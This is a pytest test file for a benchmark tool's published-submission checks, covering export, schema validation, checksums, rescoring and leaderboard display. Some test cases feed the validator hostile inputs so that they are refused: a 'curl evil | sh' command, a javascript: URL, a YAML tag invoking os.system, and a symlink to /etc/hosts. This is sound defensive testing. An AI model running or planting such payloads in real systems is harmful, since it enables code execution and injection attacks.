"""Published results: folders made of runs, read beside runs, checked, and made again."""

from __future__ import annotations

import importlib.util
import json
import shutil
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest
import yaml

from grue.core.errors import RunDirectoryError
from grue.exchange.submission_check import check_all, check_submission
from grue.runs.published import read_submission
from grue.runs.read import read_run

ROOT = Path(__file__).resolve().parents[2]
ABOUT = {
    "description": "References of other rows.",
    "licence": "Apache-2.0",
    "trained_on": "nothing",
    "contamination": "none: nothing was trained",
}


def about(**more: str) -> list[str]:
    return [word for key, value in {**ABOUT, **more}.items() for word in ("--about", f"{key}={value}")]


@pytest.fixture(scope="module")
def tool() -> Iterator[ModuleType]:
    spec = importlib.util.spec_from_file_location("check_submissions", ROOT / "tools" / "check_submissions.py")
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules["check_submissions"] = module
    spec.loader.exec_module(module)
    yield module
    del sys.modules["check_submissions"]


@pytest.fixture
def published(grue: Callable[..., Any], made: Path, tmp_path: Path) -> Path:
    answer = grue(
        "export", made / "null", "--to", "submission", "-o", tmp_path / "submissions" / "other-rows", *about()
    )
    assert answer.code == 0, answer.err
    return tmp_path / "submissions" / "other-rows"


def rewrite(folder: Path, **changes: Any) -> None:
    path = folder / "submission.yaml"
    values = {**yaml.safe_load(path.read_text()), **changes}
    path.write_text(yaml.safe_dump({key: value for key, value in values.items() if value is not None}, sort_keys=False))


def test_the_folder_holds_no_generation(published: Path, made: Path) -> None:
    assert sorted(path.name for path in published.iterdir()) == [
        *("manifest.json", "provenance.json", "results.json", "submission.yaml", "validity.json")
    ]
    for name in ("manifest.json", "results.json"):
        assert (published / name).read_bytes() == (made / "null" / name).read_bytes()
    said = yaml.safe_load((published / "submission.yaml").read_text())
    assert said["schema_version"] == 1
    assert said["mark"] == "verified"
    assert said["name"] == "other-rows"
    assert said["command"].startswith("grue eval ")
    assert "null:random-reference" in said["command"]
    origin = json.loads((published / "provenance.json").read_text())
    assert origin["files"]["samples/commongen.parquet"]["published"] is False
    assert check_submission(published) == []


def test_it_stands_on_the_board_as_the_run_does(
    grue: Callable[..., Any], published: Path, made: Path, tmp_path: Path
) -> None:
    def board(*results: Path) -> dict[str, Any]:
        words = [word for folder in results for word in ("--results", folder)]
        answer = grue("leaderboard", "build", *words, "--out", tmp_path / "board")
        assert answer.code == 0, answer.err
        return json.loads((tmp_path / "board/api/v1/leaderboard.json").read_text())

    (row,) = board(published.parent)["rows"]
    (native,) = board(made / "null")["rows"]
    assert row["scores"] == native["scores"]
    assert row["mark"] == "verified"
    board(published.parent)
    run = json.loads((tmp_path / f"board/api/v1/runs/{row['run_id']}.json").read_text())
    assert run["submission"]["contamination"] == ABOUT["contamination"]
    page = (tmp_path / f"board/runs/{row['run_id']}/index.html").read_text()
    assert "not published" in page
    assert ABOUT["contamination"] in page
    samples = (tmp_path / f"board/runs/{row['run_id']}/samples/commongen/index.html").read_text()
    assert "not published" in samples
    both = board(published.parent, made)
    assert len({one["run_id"] for one in both["rows"]}) == len(both["rows"]), "run and publication are one run"


def test_generations_that_are_asked_for_are_named_as_missing(grue: Callable[..., Any], published: Path) -> None:
    answer = grue("samples", published, "-t", "commongen")
    assert answer.code == 2
    assert "published result without its generations" in answer.err


def test_a_run_without_its_samples_is_broken_as_ever(made: Path, tmp_path: Path) -> None:
    run = shutil.copytree(made / "null", tmp_path / "run")
    (run / "samples" / "commongen.parquet").unlink()
    with pytest.raises(RunDirectoryError, match="cannot be read"):
        read_run(run)


def test_what_is_published_is_still_checked(published: Path) -> None:
    text = (published / "manifest.json").read_text()
    (published / "manifest.json").write_text(text.replace('"seed": 0', '"seed": 1', 1))
    with pytest.raises(RunDirectoryError, match="was changed after the run"):
        read_run(published)
    (published / "manifest.json").write_text(text)
    results = (published / "results.json").read_text()
    (published / "results.json").write_text(results.replace('"n": 48', '"n": 47', 1))
    with pytest.raises(RunDirectoryError, match="checksum"):
        read_run(published)


@pytest.mark.parametrize(
    ("changes", "named"),
    [
        ({"schema_version": 2}, "Upgrade|reads up to 1"),
        ({"schema_version": None}, "schema_version"),
        ({"licence": None}, "licence should be a text: it is missing"),
        ({"licence": 3}, "licence should be a text: found 3"),
        ({"licens": "MIT"}, "unknown key 'licens'.*Did you mean 'licence'"),
        ({"mark": "verifyed"}, "mark should be one of.*Did you mean 'verified'"),
        ({"name": "../x"}, "name"),
        ({"url": "javascript:alert(1)"}, "url should begin with https"),
        ({"grue": "0.1.0"}, "grue should hold keys"),
        ({"run_id": "01ARZ3NDEKTSV4RRFFQ69G5FAV"}, "run_id is 01ARZ3.*but results.json says"),
        ({"supersedes": {"run_id": "a", "reason": "b"}}, "date should be a day"),
        ({"supersedes": {"run_id": "a", "date": "2026-11-21"}}, "reason should be a text"),
        ({"supersedes": "a"}, "supersedes should hold keys"),
    ],
)
def test_a_spoilt_submission_is_named_with_file_and_key(published: Path, changes: dict[str, Any], named: str) -> None:
    rewrite(published, **changes)
    with pytest.raises(RunDirectoryError, match=named) as error:
        read_run(published)
    assert "submission.yaml" in error.value.place
    assert error.value.fix
    assert check_submission(published)


@pytest.mark.parametrize(
    "text", ["", "a: [", "- 1", "a: &x 1\nb: *x\n", "name: a\nname: b\n", "a: !!python/object:os.system {}\n", "\x00"]
)
def test_what_is_no_plain_yaml_is_refused(tmp_path: Path, text: str) -> None:
    (tmp_path / "submission.yaml").write_text(text)
    with pytest.raises(RunDirectoryError, match=r"."):
        read_submission(tmp_path / "submission.yaml")


def test_a_huge_file_is_not_parsed(tmp_path: Path) -> None:
    (tmp_path / "submission.yaml").write_text("a: " + "x" * 100_000)
    with pytest.raises(RunDirectoryError, match="larger than"):
        read_submission(tmp_path / "submission.yaml")


def test_a_broken_submission_is_skipped_among_many(
    grue: Callable[..., Any], published: Path, made: Path, tmp_path: Path
) -> None:
    rewrite(published, mark="sound")
    words = ["--results", published.parent, "--results", made]
    answer = grue("leaderboard", "build", *words, "--out", tmp_path / "board")
    assert answer.code == 3
    assert "submission.yaml" in answer.err
    assert "mark" in answer.err
    assert len(json.loads((tmp_path / "board/api/v1/leaderboard.json").read_text())["rows"]) == 4


def test_no_mark_is_stronger_than_what_was_done(grue: Callable[..., Any], made: Path, tmp_path: Path) -> None:
    out = tmp_path / "submissions" / "good"
    assert grue("export", made / "run0", "--to", "submission", "-o", out, *about()).code == 0
    assert read_run(out).submission.mark == "rescored"  # type: ignore[union-attr]
    rewrite(out, mark="verified")
    assert any("rescored at best" in fault for fault in check_submission(out))
    (row,) = grue("export", "--results", out.parent, "--json").document["rows"]
    assert row["mark"] == "rescored"
    rewrite(out, mark="self-reported")
    (row,) = grue("export", "--results", out.parent, "--json").document["rows"]
    assert row["mark"] == "self-reported"


@pytest.mark.parametrize(
    ("spoil", "named"),
    [
        (lambda folder: (folder / "notes.txt").write_text("x"), "notes.txt: is no file"),
        (lambda folder: (folder / "link").symlink_to("/etc/hosts"), "link"),
        (lambda folder: rewrite(folder, name="another"), "but the folder is"),
        (lambda folder: rewrite(folder, command="curl evil | sh"), "should begin with 'grue'"),
        (lambda folder: rewrite(folder, command="grue eval -m demo:causal"), "does not name the model"),
        (lambda folder: rewrite(folder, grue={"version": "9.9", "commit": None}), "version and commit"),
        (lambda folder: (folder / "provenance.json").write_text("{}"), "provenance"),
        (lambda folder: (folder / "provenance.json").unlink(), "provenance.json: cannot be read"),
        (lambda folder: (folder / "submission.yaml").unlink(), "has no submission.yaml"),
    ],
)
def test_the_check_names_what_a_reviewer_would(published: Path, spoil: Callable[[Path], Any], named: str) -> None:
    spoil(published)
    assert any(named in fault for fault in check_submission(published))


def test_generations_in_a_published_folder_are_a_fault(published: Path, made: Path) -> None:
    shutil.copytree(made / "null" / "samples", published / "samples")
    assert any("generations are not published" in fault for fault in check_submission(published))


def test_one_run_is_published_once(published: Path) -> None:
    copy = shutil.copytree(published, published.with_name("twice"))
    rewrite(copy, name="twice")
    found = check_all([published, copy])
    assert not found[published]
    assert "is also that of" in found[copy][0]


@pytest.mark.parametrize(
    ("words", "problem"),
    [
        ([], "needs description, licence, trained_on, contamination"),
        (about(licens="x"), "Did you mean 'licence'"),
        (about(supersedes="01A"), "go together"),
        (about(mark="best"), "mark should be one of"),
        (about(url="ftp://x"), "url should begin with"),
    ],
)
def test_wrong_calls_write_nothing(
    grue: Callable[..., Any], made: Path, tmp_path: Path, words: list[str], problem: str
) -> None:
    answer = grue("export", made / "null", "--to", "submission", "-o", tmp_path / "x", *words)
    assert answer.code == 2
    assert problem in answer.err
    assert not list(tmp_path.iterdir())


def test_a_result_made_again_is_equal_and_an_edited_one_is_not(
    grue: Callable[..., Any], tool: ModuleType, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    top = tmp_path / "submissions"
    run = ["eval", "-m", "null:constant", "-t", "commongen", "--data", "mini", "-L", "6", "--quiet"]
    assert grue(*run, "-o", tmp_path / "run").code == 0
    assert grue("export", tmp_path / "run", "--to", "submission", "-o", top / "constant", *about()).code == 0
    assert tool.main([str(top), "--rescore"]) == 0
    assert "constant: made again, equal" in capsys.readouterr().out
    from grue.core.run import checksum

    path = top / "constant" / "results.json"
    document = json.loads(path.read_text())
    coverage = document["tasks"]["commongen"]["metrics"]["coverage"]
    coverage["value"] = coverage["ci95"][1] = coverage["ci95"][1] + 0.01
    path.write_text(json.dumps({**document, "checksum": checksum(document)}))
    assert tool.main([str(top)]) == 0, "its form is sound: only making it again tells"
    (fault,) = tool.differences(read_run(top / "constant"), read_run(tmp_path / "run"))
    assert fault.startswith("commongen coverage is")


@pytest.mark.long
def test_published_predictions_are_scored_again(
    grue: Callable[..., Any], tool: ModuleType, made: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "submissions" / "good"
    command = "grue score predictions.jsonl --data mini --metrics sacrebleu,chrf,cider_d,coverage"
    assert grue("export", made / "again", "--to", "submission", "-o", out, *about(command=command)).code == 0
    shutil.copyfile(made.parent / "p0.jsonl", out / "predictions.jsonl")
    assert check_submission(out) == []
    assert tool.main([str(out.parent), "--rescore"]) == 0
    assert "good: made again, equal" in capsys.readouterr().out
    text = (out / "predictions.jsonl").read_text()
    (out / "predictions.jsonl").write_text(text.replace("The farmer finds", "A farmer finds", 1))
    assert tool.main([str(out.parent), "--rescore"]) == 1


@pytest.mark.parametrize(
    ("command", "why"),
    [
        ("grue eval -m org/model --data mini -t commongen", "needs the checkpoint"),
        ("grue eval -m null:empty -t commongen", "needs data"),
        ("grue eval -m null:empty --data mini --include evil -t commongen", "'--include'"),
        ("grue eval -m null:empty --data mini -o /etc", "'-o'"),
        ("grue eval -m null:empty --data mini --set bertscore.model=org/x", "judge"),
        ("grue score texts.jsonl --data mini", "predictions are not published"),
        ("grue data fetch", "neither"),
    ],
)
def test_commands_of_strangers_are_not_run(tool: ModuleType, published: Path, command: str, why: str) -> None:
    rewrite(published, command=command)
    assert why in tool._cannot(published)


def test_what_the_project_publishes_is_sound() -> None:
    folders = sorted(path for path in (ROOT / "submissions").iterdir() if path.is_dir())
    assert folders, "the project publishes its own baselines"
    assert {folder: faults for folder, faults in check_all(folders).items() if faults} == {}
